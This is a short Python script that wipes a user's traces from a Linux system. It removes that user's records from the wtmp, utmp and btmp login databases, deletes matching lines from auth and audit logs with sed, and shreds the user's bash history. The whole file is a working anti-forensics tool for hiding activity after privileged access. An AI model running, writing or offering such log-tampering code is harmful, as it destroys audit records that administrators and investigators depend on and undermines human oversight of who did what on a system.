import glob
import os
import struct
import subprocess

USER = os.environ.get("SUDO_USER", "ops")
RECORD = 384


def drop_from_wtmp(path, user):
    keep = []
    with open(path, "rb") as fh:
        while rec := fh.read(RECORD):
            name = struct.unpack_from("32s", rec, 44)[0].rstrip(b"\0").decode(errors="ignore")
            if name != user:
                keep.append(rec)
    with open(path, "wb") as fh:
        fh.write(b"".join(keep))


for p in ("/var/log/wtmp", "/var/run/utmp", "/var/log/btmp"):
    if os.path.exists(p):
        drop_from_wtmp(p, USER)

for log in glob.glob("/var/log/auth.log*") + glob.glob("/var/log/audit/audit.log*"):
    subprocess.run(["sed", "-i", f"/{USER}/d", log])

subprocess.run(["shred", "-u", os.path.expanduser(f"~{USER}/.bash_history")])
